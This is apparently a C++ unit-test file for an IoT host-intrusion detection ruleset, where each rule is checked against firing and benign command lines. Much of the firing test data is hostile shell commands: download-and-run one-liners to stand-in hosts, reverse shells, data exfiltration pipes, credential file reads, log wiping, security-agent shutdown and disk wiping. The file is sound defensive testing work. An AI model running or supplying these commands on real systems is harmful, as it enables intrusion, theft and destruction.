// Each rule of the content has an event that fires it and a benign look-alike that does not.
#include <gmock/gmock.h>
#include <yaml-cpp/yaml.h>

#include <functional>
#include <regex>
#include <set>

#include "pipeline_core/rules/rule_matcher.h"
#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;

struct CommandCase {
  std::string_view rule;
  std::vector<std::string_view> fires;
  std::vector<std::string_view> benign;
};

const std::vector<CommandCase>& command_cases() {
  static const std::vector<CommandCase> cases{
      {"Applet probe of a bot loader",
       {"/bin/busybox ECCHI", "busybox MIRAI"},
       {"busybox ls", "/bin/busybox ping -c 1 192.168.1.1"}},
      {"Bot loader turns a login into a shell",
       {"sh -c enable; system; shell; sh", "sh -c enable&&system&&shell"},
       {"systemctl enable edged", "sh -c systemctl", "systemctl enable shellinabox"}},
      {"Payload made executable for everybody under a writable directory",
       {"/bin/busybox chmod 777 dvrHelper", "chmod +x /tmp/kinsing", "chmod 777 bin.mips"},
       {"chmod 600 /etc/edge/key.pem", "chmod 755 /usr/local/bin/backup.sh", "chmod +x /opt/edge/bin/export"}},
      {"Program started from a memory directory or hidden name",
       {"/dev/shm/x1 -c", "/tmp/.x/run", "/dev/.nippon a"},
       {"/bin/sh /tmp/job_12.sh", "touch /tmp/.alive"}},
      {"Payload named after a processor architecture is run",
       {"./bot.mips telnet.mips", "./dvrHelper telnet.arm7"},
       {"./configure --host mips", "/usr/bin/uname -m"}},
      {"Telnet service replaced or killed",
       {"killall -9 telnetd", "pkill dropbear"},
       {"kill -HUP 120", "/usr/sbin/telnetd -l /bin/login"}},
      {"Hardware watchdog switched off", {"sh -c echo V > /dev/watchdog"}, {"watchdog -t 10 /dev/watchdog"}},
      {"Download and run in one command",
       {"sh -c cd /tmp; wget http://198.51.100.1/x.sh; chmod 777 x.sh; ./x.sh",
        "bash -c curl -fsSL http://c2.example/a | sh", "sh -c wget -q -O- http://198.51.100.7/i.sh | bash"},
       {"curl -sS -o /tmp/fw.json https://fw.camvendor.example/latest.json", "curl -fsS http://localhost:8080/health",
        "wget -q https://updates.example/list -O /var/lib/list"}},
      {"Busybox applet fetches a file to a writable directory",
       {"/bin/busybox wget http://198.51.100.1/mips -O dvrHelper", "busybox tftp -g -l dvrHelper -r mips 198.51.100.1"},
       {"busybox ps", "wget -q https://updates.example/list"}},
      {"File fetched from a bare address",
       {"wget http://198.51.100.1/bins/mips -O /tmp/x", "curl -O http://203.0.113.5:8080/k.sh"},
       {"wget http://192.168.1.10/config.xml", "curl https://fw.camvendor.example/1.2.3.4"}},
      {"Trivial file transfer of a program",
       {"tftp -g -r mips 198.51.100.1", "tftp 198.51.100.1 -c get arm7"},
       {"in.tftpd --listen", "cat tftp.conf"}},
      {"Program written byte by byte with echo",
       {R"(echo -ne "\x7f\x45\x4c\x46\x01" >> upnp)", R"(echo -e \\x7f\\x45\\x4c\\x46)"},
       {"echo hello", R"(echo -e "\x1b[0m")"}},
      {"Encoded text piped into a shell",
       {"sh -c echo aWQK | base64 -d | bash"},
       {"base64 -d /etc/edge/cert.b64", "sh -c cat x | bash-completion"}},
      {"Miner by name",
       {"/tmp/xmrig -c config.json", "minerd -a cryptonight", "echo cpuminer-multi"},
       {"/opt/kiosk/bin/examiner", "/usr/bin/task --minerals"}},
      {"Options of a mining program",
       {"/usr/sbin/kworker -o stratum+tcp://pool.example:3333 -u wallet", "a --donate-level 1"},
       {"mosquitto_pub -t site/device/1/state -l"}},
      {"Container with a mining image",
       {"docker run -d monero/xmrig:latest"},
       {"docker run -d registry.cloud.example/app:12", "docker pull registry.cloud.example/app:3"}},
      {"nohup on a file in a temporary directory",
       {"nohup /tmp/.x/kdevtmpfsi", "sh -c nohup ./a >/dev/null &", "/usr/bin/nohup /dev/shm/k"},
       {"nohup /opt/edge/bin/export --batch 3", "/bin/sh /tmp/job_3.sh"}},
      {"Host firewall flushed, opened or stopped",
       {"iptables -F", "/sbin/iptables -P INPUT ACCEPT", "ufw disable", "systemctl stop firewalld",
        "service iptables stop", "nft flush ruleset"},
       {"iptables -L -n", "ufw status", "systemctl restart kiosk-ui", "iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
        "systemctl status ufw"}},
      {"Ports closed against competitors and repair",
       {"iptables -A INPUT -p tcp --dport 23 -j DROP", "iptables -I INPUT -p tcp --destination-port 7547 -j DROP"},
       {"iptables -A INPUT -p tcp --dport 8080 -j DROP"}},
      {"Mandatory access control switched off", {"setenforce 0"}, {"getenforce", "setenforce 1"}},
      {"Auditing stopped",
       {"systemctl stop auditd", "auditctl -e 0", "service auditd stop", "pkill auditd"},
       {"auditctl -l", "systemctl status auditd", "systemctl stop edged"}},
      {"Security agent stopped",
       {"systemctl stop defender-iot-micro-agent", "systemctl --now disable defender-iot-micro-agent.service",
        "pkill -9 -f defender_iot_micro_agent", "apt-get purge defender-iot-micro-agent"},
       {"systemctl status defender-iot-micro-agent", "systemctl restart edged",
        "apt-get install defender-iot-micro-agent"}},
      {"Cloud ports blocked on the device",
       {"iptables -A OUTPUT -p tcp --dport 8883 -j DROP"},
       {"iptables -A OUTPUT -p tcp --dport 8883 -j ACCEPT"}},
      {"System logs removed",
       {"rm -rf /var/log/syslog", "rm -f /var/log/auth.log", "sh -c cat /dev/null > /var/log/messages",
        "rm -rf /var/log"},
       {"tail -n 50 /var/log/syslog", "gzip -9 /var/log/ocpp.log.1", "rm -f /tmp/clip.lock",
        "rm -f /var/log/ocpp.log.4.gz"}},
      {"Shell history erased",
       {"bash -c history -c", "sh -c unset HISTFILE", "rm -f /root/.bash_history"},
       {"cat /var/lib/history", "ls -la /root"}},
      {"Shell bound to a network device of bash",
       {"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "sh -c exec 5<>/dev/tcp/203.0.113.9/80"},
       {"ls /dev", "cat /dev/ttyS0"}},
      {"Shell handed to a network tool",
       {"nc -e /bin/sh 203.0.113.9 4444", "ncat 203.0.113.9 1 --sh-exec /bin/bash",
        "sh -c rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 9 > /tmp/f",
        "socat tcp:203.0.113.9:1 exec:/bin/sh"},
       {"nc -lkp 8888", "nc -z 192.168.1.1 443", "socat - /dev/ttyUSB0"}},
      {"Interpreter opens a socket for a shell",
       {R"(python3 -c import socket,pty;s=socket.socket();pty.spawn("/bin/sh"))",
        "perl -e use Socket;exec(\"/bin/sh -i\");"},
       {"python3 /app/collect.py", "python3 -c print(1)"}},
      {"Interactive shell without a terminal", {"sh -i >& /proc/x", "/bin/bash -i <&3"}, {"bash -i", "-sh"}},
      {"Access file of a web server changed", {"sh -c echo x > /var/www/.htaccess"}, {"ls /var/www"}},
      {"Archive streamed to the network",
       {"sh -c tar czf - /data | nc 203.0.113.9 99", "sh -c tar cz /home | curl -T - https://files.example"},
       {"tar -czf /var/backups/edge.tgz /etc/edge /var/lib/edge", "sh -c zcat a | grep b"}},
      {"Upload of a file staged in a temporary directory",
       {"curl -T /tmp/loot.tgz https://files.example/u", "curl -F file=@/dev/shm/a.zip https://x.example",
        "scp /tmp/d.tar.gz u@h.example:/x "},
       {"curl -sS -T /var/backups/kiosk.tgz https://backup.retail.example/upload",
        "rsync -a /var/lib/kiosk/ /srv/kiosk", "rclone copy /var/backups/edge.tgz remote:edge"}},
      {"Upload of a file to a bare address",
       {"curl -T data.bin http://203.0.113.9/u", "scp x u@203.0.113.9:/y"},
       {"curl -T data.bin http://192.168.1.9/u",
        "curl -sS -T /var/backups/kiosk.tgz https://backup.retail.example/upload"}},
      {"Sensitive directories packed into a temporary directory",
       {"tar czf /tmp/d.tgz /etc /home", "tar -czf /tmp/.b.tgz /var/lib/edge"},
       {"tar -czf /var/backups/kiosk.tgz /var/lib/kiosk", "tar -C /var/lib/edge/spool -cf /tmp/batch7.tar ."}},
      {"Password files or key stores read",
       {"cat /etc/shadow", "cat /root/.ssh/id_rsa", "find / -name id_rsa"},
       {"cat /etc/edge/config.toml", "ssh-keygen -y", "cat /etc/ipcam.conf"}},
      {"Tool made to attack other machines",
       {"nmap -sS 10.0.0.0/24", "/usr/bin/masscan 0.0.0.0/0", "hydra -l root ssh://1"},
       {"/usr/bin/nmapper", "grep nmap x"}},
      {"Local reconnaissance typical of intruders",
       {"find / -perm -4000 -type f", "sudo -l", "cat /etc/passwd", "/bin/busybox cat /proc/mounts; x"},
       {"sudo systemctl restart edged", "cat /proc/meminfo", "find /mnt/sd -name *.tmp -mmin +60",
        "sudo apt list --upgradable"}},
      {"Compilation in a temporary directory",
       {"gcc -o /tmp/x exploit.c", "sh -c cc /tmp/a.c"},
       {"gcc -o app app.c", "make -C /opt/edge"}},
      {"Schedule changed to fetch or run from a temporary directory",
       {"crontab -", "sh -c echo '* * * * * x' >> /etc/crontab"},
       {"crontab -l", "crond -l 8"}},
      {"Account added in a way that hides or empowers it",
       {"useradd -o -u 0 svc", "usermod -aG sudo bob", "useradd -d /tmp x"},
       {"useradd operator", "userdel bob"}},
      {"Preload file set by command", {"sh -c echo /lib/x.so > /etc/ld.so.preload"}, {"ldconfig"}},
      {"Devices overwritten or file system wiped",
       {"dd if=/dev/urandom of=/dev/mtdblock0", "rm -rf /", "rm -rf /*", "sh -c cat /dev/urandom > x"},
       {"rm -rf /var/lib/edge/spool/1", "dd if=/dev/zero of=/data/file", "rm -f /tmp/clip.lock"}},
      {"Mass encryption by command",
       {"find /data -type f -exec openssl enc -aes-256-cbc -in {} -out {}.enc"},
       {"openssl x509 -checkend 86400 -in /etc/edge/cert.pem", "find /var/cache/man -type f"}},
      {"Privileged container started",
       {"docker run --privileged alpine", "docker run -v /:/host alpine"},
       {"docker run -d alpine", "docker ps"}},
      {"Container daemon offered by TCP",
       {"dockerd -H tcp://0.0.0.0:2375"},
       {"dockerd -H unix:///run/docker.sock", "docker ps"}},
      {"Program started by name of the product's sample or through the loader",
       {"/usr/local/bin/la -x", "la", "/lib/ld-linux.so.2 /tmp/x", "/lib64/ld-linux-x86-64.so.2 --preload /tmp/l.so /bin/ls",
        "/lib/ld-musl-armhf.so.1 ./a"},
       {"ls -la", "/lib/ld-linux.so.2 --list /bin/ls", "ldconfig", "/usr/bin/lab x"}},
      {"Script given to another language's interpreter",
       {"python3 /tmp/a.sh", "perl x.jpg", "sh run.py", "/bin/bash -x /tmp/setup.pl", "php -f shell.txt", "ruby a.py"},
       {"python3 /app/collect.py", "sh /tmp/job_3.sh", "sh -c ls a.py", "ssh ops@host.py", "perl a.pl",
        "bash /etc/cron.d/rotate"}},
      {"Program whose name ends with a space",
       {"./notes.txt\\  -q", "'/tmp/notes.txt ' -q", "\"/tmp/a b \" x"},
       {"./notes.txt -q", "'/tmp/a b' x", "\"/tmp/my program\" x", "/opt/a\\ b x"}},
      {"Common program overwritten",
       {"cp /tmp/ps /bin/ps", "mv /tmp/x /usr/bin/netstat", "sh -c cat x > /usr/sbin/sshd", "wget http://a.example/x -O /bin/ls",
        "dd if=/tmp/x of=/bin/login"},
       {"cp /bin/echo dvr", "install -m 755 export /usr/local/bin/export", "ls /bin/ps", "cp /bin/ps /var/lib/edge/ps"}},
      {"Clock set by command",
       {"date -s 2020-01-01", "date --set=now", "hwclock --set --date now", "timedatectl set-ntp false"},
       {"date", "date +%s", "hwclock -r", "timedatectl status", "timedatectl set-ntp true", "update -s"}},
      {"Program made to start by itself in an unusual way",
       {"sh -c echo /opt/x >> /etc/rc.local", "sh -c echo x >> /root/.bashrc", "systemctl enable /home/u/x.service",
        "systemd-run --on-boot=60 /opt/x", "cp x.sh /etc/init.d/S99x"},
       {"cat /etc/rc.local", "systemctl enable edged", "cp /etc/init.d/S99ipcam /var/backups/", "sh -c echo x > /etc/edge.conf"}},
      {"Port forwarded to an outside host",
       {"ssh -f -N -R 2222:localhost:22 u@203.0.113.9", "socat tcp-listen:80,fork tcp:203.0.113.9:80",
        "iptables -t nat -A PREROUTING -p tcp -j DNAT --to 203.0.113.9:1"},
       {"ssh ops@10.0.0.1", "iptables -t nat -L"}},
  };
  return cases;
}

std::set<std::string> fired_by(const PipelineContent& content, const TextTable& texts, const Observation& o) {
  RuleMatcher matcher(content.rules());
  std::vector<std::uint32_t> rules;
  matcher.match(o, texts, rules);
  std::set<std::string> titles;
  for (const std::uint32_t r : rules) titles.insert(content.rules().rules()[r].title);
  return titles;
}

std::shared_ptr<const PipelineContent> own_content() {
  PipelineContent::Builder builder;
  add_own_rules(builder);
  auto content = builder.build();
  for (const Diagnostic& d : builder.diagnostics()) ADD_FAILURE() << to_string(d);
  return content;
}

TEST(ContentRules, fire_on_their_case_and_not_on_the_look_alike) {
  const auto content = own_content();
  TextTable texts;
  for (const CommandCase& c : command_cases()) {
    for (const std::string_view command : c.fires) {
      EXPECT_TRUE(fired_by(*content, texts, exec(texts, kStart, command)).contains(std::string(c.rule)))
          << c.rule << ": " << command;
    }
    for (const std::string_view command : c.benign) {
      EXPECT_THAT(fired_by(*content, texts, exec(texts, kStart, command)), ::testing::IsEmpty())
          << c.rule << ": " << command;
    }
  }
}

TEST(ContentRules, fire_on_other_kinds_of_events) {
  const auto content = own_content();
  TextTable texts;
  const auto file = [&](std::string_view path, FileOperation operation) {
    return at(kStart, FileRecord{texts.intern(path), operation});
  };
  const auto name = [&](std::string_view n) { return at(kStart, DnsRecord{texts.intern(n), false}); };
  const auto plug = [&](bool usb, bool connected) {
    return at(kStart, PeripheralRecord{texts.intern("x"), connected, usb});
  };
  const auto web = [&](std::string_view command, std::uint32_t user) {
    Observation o = exec(texts, kStart, command);
    std::get<ProcessRecord>(o.record).user_id = user;
    return o;
  };
  Observation inbound = flow(kStart, "203.0.113.1", 50000);
  std::get<NetworkRecord>(inbound.record).direction = Direction::kInbound;
  const auto datagram = [](std::string_view remote, std::uint16_t port) {
    Observation o = flow(kStart, remote, port);
    std::get<NetworkRecord>(o.record).protocol = TransportProtocol::kUdp;
    return o;
  };
  struct Case {
    std::string rule;
    Observation fires;
    Observation benign;
  };
  const std::vector<Case> cases{
      {"Resolution of a mining pool", name("xmr-eu1.nanopool.org"), name("api.camvendor.example")},
      {"Web server starts a reconnaissance command through a shell", web("sh -c id; uname -a", 33),
       web("sh -c id; uname -a", 1000)},
      {"Start-up or schedule file written", file("/etc/cron.d/x", FileOperation::kCreated),
       file("/etc/edge/state.toml", FileOperation::kCreated)},
      {"Authorised keys changed", file("/root/.ssh/authorized_keys", FileOperation::kModified),
       file("/root/.ssh/known_hosts", FileOperation::kModified)},
      {"Preload file written", file("/etc/ld.so.preload", FileOperation::kCreated),
       file("/etc/ld.so.cache", FileOperation::kCreated)},
      {"Failed login", login(texts, kStart, LoginOperation::kLoginFailed, "203.0.113.1"),
       login(texts, kStart, LoginOperation::kLogin, "203.0.113.1")},
      {"Failed login from a remote address", login(texts, kStart, LoginOperation::kLoginFailed, "203.0.113.1"),
       login(texts, kStart, LoginOperation::kLoginFailed, "")},
      {"Failed login at the device itself", login(texts, kStart, LoginOperation::kLoginFailed, ""),
       login(texts, kStart, LoginOperation::kLoginFailed, "203.0.113.1")},
      {"Successful login", login(texts, kStart, LoginOperation::kLogin, ""),
       login(texts, kStart, LoginOperation::kLogout, "")},
      {"Successful login from a remote address", login(texts, kStart, LoginOperation::kLogin, "203.0.113.1"),
       login(texts, kStart, LoginOperation::kLogin, "")},
      {"File made or renamed", file("/data/a", FileOperation::kMoved), file("/data/a", FileOperation::kModified)},
      {"File removed", file("/data/a", FileOperation::kDeleted), file("/data/a", FileOperation::kCreated)},
      {"Outbound datagrams to an outside address", datagram("203.0.113.1", 6881), datagram("203.0.113.1", 123)},
      {"Connection of a sign-in service or to a mail port", flow(kStart, "203.0.113.1", 25), flow(kStart, "203.0.113.1", 80)},
      {"Query for a long name of random look", name("kvqxw7mzt3yhq2r9plf6cdb5nsaj0.zone.example"),
       name("a-readable-name-of-a-service-in-a-region.vendor.example")},
      {"Query for a name that does not exist", at(kStart, DnsRecord{texts.intern("qzx.example"), true}), name("qzx.example")},
      {"Outbound attempt at a telnet port", flow(kStart, "203.0.113.1", 23), flow(kStart, "203.0.113.1", 443)},
      {"Outbound attempt at a port that worms and intruders try", flow(kStart, "203.0.113.1", 7547),
       flow(kStart, "203.0.113.1", 443)},
      {"Inbound attempt", inbound, flow(kStart, "203.0.113.1", 443)},
      {"USB device attached", plug(true, true), plug(true, false)},
      {"USB device removed", plug(true, false), plug(true, true)},
      {"Ethernet link up", plug(false, true), plug(true, true)},
      {"Ethernet link down", plug(false, false), plug(false, true)},
      {"File created", file("/etc/a", FileOperation::kCreated), file("/etc/a", FileOperation::kModified)},
      {"File modified", file("/etc/a", FileOperation::kModified), file("/etc/a", FileOperation::kDeleted)},
      {"File deleted", file("/etc/a", FileOperation::kDeleted), file("/etc/a", FileOperation::kCreated)},
  };
  std::set<std::string> covered;
  for (const Case& c : cases) {
    EXPECT_TRUE(fired_by(*content, texts, c.fires).contains(c.rule)) << c.rule;
    EXPECT_FALSE(fired_by(*content, texts, c.benign).contains(c.rule)) << c.rule;
    covered.insert(c.rule);
  }
  for (const CommandCase& c : command_cases()) covered.insert(std::string(c.rule));
  for (const Rule& rule : content->rules().rules()) {
    EXPECT_TRUE(rule.is_correlation || covered.contains(rule.title)) << "no case for: " << rule.title;
  }
}

TEST(ContentRules, carry_an_identity_a_level_and_a_known_alert) {
  const auto content = own_content();
  std::set<std::string> ids;
  for (const Rule& rule : content->rules().rules()) {
    EXPECT_TRUE(
        std::regex_match(rule.id, std::regex("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")))
        << rule.title;
    EXPECT_TRUE(ids.insert(rule.id).second) << rule.title;
    EXPECT_TRUE(rule.silent || !rule.alert_name.empty()) << rule.title;
  }
}

/// The simulator's benign command lines, if its profiles are there.
TEST(ContentRules, stay_quiet_on_the_benign_profiles) {
  const std::filesystem::path folder = PICKET_SOURCE_DIR "/scenarios/profiles";
  if (!std::filesystem::exists(folder)) GTEST_SKIP() << "no profiles";
  const auto content = own_content();
  TextTable texts;
  std::size_t checked = 0;
  const std::function<void(const YAML::Node&)> visit = [&](const YAML::Node& node) {
    if (node.IsMap()) {
      for (const auto& item : node) {
        if (item.first.Scalar() == "commandlines" && item.second.IsSequence()) {
          for (const YAML::Node& one : item.second) {
            const std::string command = std::regex_replace(one.Scalar(), std::regex("\\{(decimal|hex8)\\}"), "1234");
            EXPECT_THAT(fired_by(*content, texts, exec(texts, kStart, command)), ::testing::IsEmpty()) << command;
            ++checked;
          }
        } else {
          visit(item.second);
        }
      }
    } else if (node.IsSequence()) {
      for (const YAML::Node& one : node) visit(one);
    }
  };
  for (const auto& file : std::filesystem::directory_iterator(folder)) {
    if (file.path().extension() == ".yaml") visit(YAML::LoadFile(file.path().string()));
  }
  EXPECT_GT(checked, 100u);
}

}  // namespace
}  // namespace picket
